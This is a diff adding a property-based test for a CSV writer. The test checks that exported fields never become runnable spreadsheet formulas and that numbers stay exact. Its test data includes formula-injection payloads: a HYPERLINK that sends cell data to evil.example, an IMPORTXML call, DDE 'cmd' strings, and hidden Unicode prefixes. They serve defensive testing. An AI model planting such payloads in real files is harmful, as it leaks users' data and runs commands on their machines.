@@ -1,0 +1,94 @@
+import fc from "fast-check";
+import { expect, it } from "vitest";
+import type { CsvValue } from "./csv-field.ts";
+import { writeCsv } from "./csv.ts";
+
+/** What a spreadsheet cuts off or never shows before it looks for the sign of a formula. */
+const UNSEEN = [" ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u200b", "\u200f", "\u202e", "\u2060", "\u00ad", "\ufeff"];
+const MORE_UNSEEN = ["\u0000", "\u001f", "\u0085", "\u180e", "\u034f", "\u3164", "\ufe0f", "\u2800", "\u{e0041}"];
+const SIGNS = Array.from("=+-@＝＋－＠﹦﹢﹣﹫");
+const BODIES = [
+  `HYPERLINK("https://evil.example?x="&A1,"more")`,
+  `cmd|' /C calc'!A0`,
+  "1+1",
+  "SUM(A1:A9)",
+  '"',
+  "",
+  `IMPORTXML(CONCAT("//e","vil"),"//a")`,
+  "2+5+cmd|' /C calc'!A0",
+];
+
+const hostile = fc
+  .tuple(
+    fc.array(fc.constantFrom(...UNSEEN, ...MORE_UNSEEN, "'", '"', ",", ";", "x"), { maxLength: 4 }),
+    fc.constantFrom(...SIGNS, ""),
+    fc.oneof(fc.constantFrom(...BODIES), fc.string({ unit: "binary", maxLength: 12 }), fc.string({ unit: "grapheme" })),
+  )
+  .map(([before, sign, body]) => before.join("") + sign + body);
+
+const grouped = new Intl.NumberFormat("en", { maximumFractionDigits: 8 });
+/** A number as a list has it, and what it is. */
+const number: fc.Arbitrary<{ value: CsvValue; is: string }> = fc.oneof(
+  fc.integer().map((amount) => ({ value: amount, is: String(amount) })),
+  fc.integer().map((amount) => ({ value: BigInt(amount), is: String(amount) })),
+  fc
+    .tuple(fc.bigInt(-(10n ** 24n), 10n ** 24n), fc.nat(99_999_999))
+    .map(([whole, part]) => `${whole}.${part}`)
+    .map((is) => ({ value: { number: is }, is })),
+  fc
+    .integer({ min: -999_999_999, max: -1 })
+    .map((amount) => ({ value: String(amount / 100), is: String(amount / 100) })),
+  fc.integer().map((amount) => ({ value: grouped.format(amount), is: grouped.format(amount) })),
+);
+
+/** Splits a line as a program does that takes every one of `separators` for one, with a quote at a field's begin. */
+const fieldsOf = (file: string, separators: string): string[] => {
+  const fields: string[] = [];
+  for (let at = 0; at < file.length; at += 1) {
+    let field = "";
+    if (file[at] === '"') {
+      for (at += 1; at < file.length; at += 1) {
+        if (file[at] !== '"') field += file[at]!;
+        else if (file[at + 1] === '"') field += file[(at += 1)]!;
+        else break;
+      }
+      at += 1;
+    }
+    for (; at < file.length && !separators.includes(file[at]!) && file[at] !== "\r"; at += 1) field += file[at]!;
+    fields.push(field);
+    if (file[at] === "\r") at += 1;
+  }
+  return fields;
+};
+
+const NUMERIC = /^[+-]?[\d,]+(\.\d+)?$/;
+/** Whether Excel, Calc or Sheets would run a field, whichever of them cuts off most. */
+const runs = (field: string) => {
+  const seen = field.replace(/^[\s\p{C}\p{Default_Ignorable_Code_Point}\u2800]+/u, "").normalize("NFKC");
+  return (/^[=+\-@]/.test(seen) || /^[\t\r]/.test(field)) && !NUMERIC.test(field);
+};
+
+it("holds no formula that any spreadsheet would run, and every number as it is, in 20,000 generated rows", async () => {
+  await fc.assert(
+    fc.asyncProperty(
+      hostile,
+      number,
+      fc.constantFrom("," as const, ";" as const, "\t" as const),
+      async (text, { value, is }, separator) => {
+        const columns = [
+          { header: "Note", value: () => text },
+          { header: "Amount", value: () => value },
+        ];
+        let file = "";
+        for await (const piece of writeCsv(columns, [[undefined]], { separator })) file += piece.text;
+        for (const separators of [separator, ",;\t"]) {
+          const [, , note = "", amount, ...more] = fieldsOf(file, separators);
+          expect(runs(note)).toBe(false);
+          expect([text, `'${text}`]).toContain(note);
+          expect([amount, more]).toEqual([is, []]);
+        }
+      },
+    ),
+    { seed: 20_261_125, numRuns: 20_000 },
+  );
+});
